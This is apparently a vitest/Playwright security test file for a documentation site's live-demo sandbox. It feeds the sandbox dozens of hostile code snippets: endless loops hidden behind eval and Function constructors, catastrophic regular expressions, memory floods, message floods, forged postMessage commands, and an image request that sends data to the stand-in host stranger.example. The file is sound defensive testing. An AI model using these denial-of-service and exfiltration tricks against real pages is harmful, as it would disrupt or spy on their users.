/** Attacks by the code of an edited demo. */
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { createSite } from '../helpers/build-site.ts';
import { editDemo, type LiveCard, longestGap, plainCode } from '../helpers/live.ts';
import { type OpenSite, openSite, whileNothingHappens } from '../helpers/pages.ts';

const plain = plainCode('  return <p>plain text</p>;');
let site: OpenSite;

beforeAll(async () => {
  const { root, build } = await createSite({
    'docs/index.md': '# Home\n\n<code src="../demos/plain.tsx"></code>\n',
    'docs/other.md': '# Other\n\nText.\n',
    'demos/plain.tsx': plain,
  });
  const { text } = await build({ cache: false });
  expect(text).toBe('');
  site = await openSite({ root });
});

describe('malicious code', () => {
  /** Obtains the port through which the frame talks to the page. */
  const withPort = `import { useEffect } from 'react';
function withPort(use) {
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (message) {
    postMessage.call(this, message);
    if (typeof message !== 'string') return;
    MessagePort.prototype.postMessage = postMessage;
    use(this);
  };
}
`;
  const attacks: [name: string, code: string, says: RegExp][] = [
    ['while (true)', plainCode('  while (true) {}'), /A loop did not end/],
    ['a loop at module level', plainCode('  return null;', 'for (;;);\n'), /A loop did not end/],
    [
      'endless promises',
      plainCode('  return <p>x</p>;', '(async () => { for (;;) await 0; })();\n'),
      /A loop did not end/,
    ],
    ...[
      'eval("for(;;);")',
      'globalThis.eval("for(;;);")',
      'Function("for(;;);")()',
      'new (class extends Function {})("for(;;);")()',
      '(() => {}).constructor("for(;;);")()',
      '[...(function* () {}).constructor("for(;;);")()]',
      '(async () => {}).constructor("for(;;);")()',
      '(async function* () {}).constructor("for(;;);")().next()',
      'Object.getPrototypeOf((async () => {}).constructor)("for(;;);")()',
      'setTimeout("for(;;);")',
      'performance.now = () => 0; Performance.prototype.now = () => 0; for (;;);',
      'Reflect.set(globalThis, "cascader" + "Loop", () => {}); for (;;);',
    ].map((code): [string, string, RegExp] => [
      code,
      plainCode(`  try {\n    ${code};\n  } catch {}\n  for (;;) break;\n  return <p>x</p>;`),
      /A loop did not end/,
    ]),
    [
      'an endless chain of promises',
      plainCode('  return <p>x</p>;', 'const chain = () => Promise.resolve().then(chain);\nchain();\n'),
      /did not pause within 2 s|did not answer for 2 seconds/,
    ],
    [
      'endless work in pieces',
      plainCode('  return <p>x</p>;', 'setInterval("for(;;);", 10);\n'),
      /kept answering too slowly/,
    ],
    [
      'a slow regular expression',
      plainCode("  return <p>{String(/^(a+)+$/.test('a'.repeat(40) + 'b'))}</p>;"),
      /did not answer for 2 seconds/,
    ],
    ['endless recursion', plainCode('  const f = () => f() + 1;\n  f();\n  return null;'), /Maximum call stack/],
    ['throw null', plainCode('  throw null;'), /This demo has crashed/],
    [
      'a huge allocation',
      plainCode('  const a = [];\n  for (;;) a.push(new Array(1e7).fill(a));'),
      /did not answer for 2 seconds|memory|Invalid array length/i,
    ],
    ['a promise rejected with nothing', plainCode('  Promise.reject();\n  return <p>x</p>;'), /This demo has crashed/],
    ['a rejected promise', plainCode("  Promise.reject('lost');\n  return <p>x</p>;"), /lost/],
    ['document.body.remove()', plainCode('  document.body.remove();\n  return <p>x</p>;'), /removed the element/],
    ['parent.document', plainCode('  parent.document.title = 1;\n  return <p>x</p>;'), /SecurityError/],
    ['localStorage', plainCode("  localStorage.setItem('a', 'b');\n  return <p>x</p>;"), /SecurityError/],
    [
      "fetch('/')",
      plainCode("  fetch('/');\n  return <p>x</p>;"),
      /connect-src is closed|Failed to fetch|NetworkError/,
    ],
    [
      'a picture that sends data',
      plainCode("  new Image().src = 'https://stranger.example/?stolen';\n  return <p>x</p>;"),
      /cannot reach https:\/\/stranger\.example.*img-src is closed/,
    ],
    [
      'leaving for another page',
      plainCode("  location.href = '/other';\n  return <p>x</p>;"),
      /left its frame|did not answer/,
    ],
    [
      'a flood of messages',
      plainCode(
        '  useEffect(() => withPort((port) => {\n    for (let i = 0; i < 2000; i++) port.postMessage(\'{"type":"pong"}\');\n  }), []);\n  return <p>x</p>;',
        withPort,
      ),
      /flooded the page/,
    ],
    [
      'a message of five million characters',
      plainCode(
        "  useEffect(() => withPort((port) => port.postMessage('x'.repeat(5e6))), []);\n  return <p>x</p>;",
        withPort,
      ),
      /flooded the page/,
    ],
    [
      'a message that is not text',
      plainCode(
        '  useEffect(() => withPort((port) => port.postMessage(new Uint8Array(9))), []);\n  return <p>x</p>;',
        withPort,
      ),
      /flooded the page/,
    ],
    [
      'an error of many megabytes',
      plainCode("  setTimeout(() => {\n    throw new Error('long '.repeat(6e5));\n  });\n  return <p>x</p>;"),
      /^long long/,
    ],
    [
      'its own document',
      plainCode(
        '  useEffect(() => { document.open(); document.write("x"); }, []);\n  return <p>x</p>;',
        "import { useEffect } from 'react';\n",
      ),
      /open is not a function/,
    ],
  ];

  it.each(
    attacks,
  )('%s: the page stays, the text is kept, and the message says what happened', async (name, code, says) => {
    // If a frame blocks the page, the gap lasts until the frame is given up, which takes two seconds.
    expect(await attack(name, code, says)).toBeLessThan(1_500);
  });

  /** A page to attack, and its longest gap while it is idle, in milliseconds. */
  interface Target {
    page: Page;
    live: LiveCard;
    idle: number;
  }

  async function openTarget(): Promise<Target> {
    // Frames of tabs that are open at the same time may share a process, so that one that hangs would block all of
    // them.
    const { page } = await site.open('/', { beside: false });
    const live = await editDemo(page);
    // Loading and first rendering are not part of the attack.
    await live.write(plainCode('  return <p>harmless</p>;'));
    await (await live.frame()).getByText('harmless').waitFor();
    return { page, live, idle: await longestGap(page, () => whileNothingHappens(page)) };
  }

  /** Returns by how much the gap of the attacked page exceeds that of the idle page, in milliseconds. */
  async function attack(name: string, code: string, says: RegExp): Promise<number> {
    const { page, live, idle } = await openTarget();
    const busy = await longestGap(page, async () => {
      await live.write(code);
      await expect.poll(() => live.failure()).toMatch(says);
    });
    expect(await live.read()).toBe(code);
    expect(await page.title()).toBe('Home');
    // The demo still works.
    await live.write(plainCode(`  return <p>after {${JSON.stringify(name)}}</p>;`));
    await expect
      .poll(async () =>
        (await live.frame())
          .getByText(`after ${name}`, { exact: true })
          .isVisible()
          .catch(() => false),
      )
      .toBe(true);
    await live.card.locator('.live-failure').waitFor({ state: 'detached' });
    return busy - idle;
  }

  it('is ignored after it has replaced its frame with an untrusted page that never finishes loading', async () => {
    const stranger = http.createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.write(`<script>
        addEventListener('message', ({ ports }) => ports[0]?.postMessage('{"type":"pong"}'));
        setInterval(() => parent.postMessage({ type: 'pong', nonce: location.hash.slice(1) }, '*'), 50);
      </script>`);
    });
    await once(stranger.listen(0, '127.0.0.1'), 'listening');
    const { root, build } = await createSite({
      // The author allows all frames.
      'cascader-docs.config.ts': "export default { csp: { 'frame-src': ['http:'] } };",
      'docs/index.md': '# Home\n\n<code src="../demos/plain.tsx" title="Plain"></code>\n',
      'demos/plain.tsx': plain,
    });
    await build();
    const open = await openSite({ root });
    const { page } = await open.open('/');
    const live = await editDemo(page);
    const { port } = stranger.address() as AddressInfo;
    await live.write(plainCode(`  location.href = 'http://127.0.0.1:${port}/' + location.hash;\n  return <p>x</p>;`));
    expect(await live.failure()).toMatch(/did not answer|left its frame/);
    await expect.poll(() => page.locator('.live-frame').count()).toBe(0);
    stranger.closeAllConnections();
    stranger.close();
  });

  it('is not run by forged messages', async () => {
    const { page, messages } = await site.open('/');
    const live = await editDemo(page);
    await live.write(plainCode('  return <p>mine</p>;'));
    await (await live.frame()).getByText('mine').waitFor();
    const before = await page.locator('#root').innerHTML();
    await page.evaluate(() => {
      const types = ['ready', 'rendered', 'failed', 'height', 'pong', 'setup', 'run', 'dumi.liveDemo.setSource'];
      for (let i = 0; i < 200; i++) {
        const type = types[i % types.length];
        const failure = { kind: 'stopped', message: 'forged' };
        postMessage({ type, nonce: String(i), run: i, height: 9999, failure, files: { 'index.tsx': 'alert(1)' } }, '*');
      }
    });
    await whileNothingHappens(page);
    expect(await page.locator('#root').innerHTML()).toBe(before);
    expect(messages).toEqual([]);
  });

  it.each([
    '/',
    '/other',
    '/~demos/docs-demo-plain',
    '/~sandbox.html#nonce',
  ])('%s ignores 200 messages from another origin', async (path) => {
    const { page } = await site.open('/other');
    await page
      .context()
      .route('https://stranger.example/', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<title>stranger</title>' }),
      );
    await page.goto('https://stranger.example/');
    const [opened] = await Promise.all([
      page.context().waitForEvent('page'),
      page.evaluate((url) => Object.assign(window, { target: open(url) }), site.url + path),
    ]);
    const said: string[] = [];
    opened.on('console', (message) => said.push(message.text()));
    opened.on('pageerror', (error) => said.push(error.message));
    await opened.waitForLoadState();
    // Its own scripts may still change it.
    let before = '';
    await expect
      .poll(
        async () => {
          const last = before;
          before = await opened.content();
          return before === last;
        },
        { interval: 500 },
      )
      .toBe(true);
    await page.evaluate(() => {
      const { target } = window as unknown as { target: Window };
      const types = ['ready', 'rendered', 'failed', 'setup', 'script', 'run', 'preferences', 'dumi.liveDemo.setSource'];
      for (let i = 0; i < 200; i++) {
        const code = 'globalThis.taken = true; document.title = "taken"';
        const files = { 'index.tsx': code };
        const message = {
          type: types[i % types.length],
          nonce: 'nonce',
          run: i,
          files,
          scripts: [code],
          text: code,
          value: code,
        };
        target.postMessage(message, '*');
      }
    });
    await whileNothingHappens(opened);
    expect(await opened.content()).toBe(before);
    expect(await opened.evaluate(() => 'taken' in globalThis)).toBe(false);
    expect(said).toEqual([]);
  });

  it('is not run by the sandbox document outside of a sandbox', async () => {
    const { page } = await site.open('/other');
    const ran = await page.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.src = '/~sandbox.html#nonce';
      document.body.append(frame);
      const heard: unknown[] = [];
      addEventListener('message', ({ data }) => heard.push(data));
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      const setup = { type: 'setup', nonce: 'nonce', scripts: ['parent.document.title = "taken"'], source: {} };
      frame.contentWindow?.postMessage(setup, '*');
      // A document that ignores a message sends no event to wait for.
      await new Promise((resolve) => setTimeout(resolve, 300));
      return [document.title, heard];
    });
    expect(ran).toEqual(['Other', []]);
  });
});
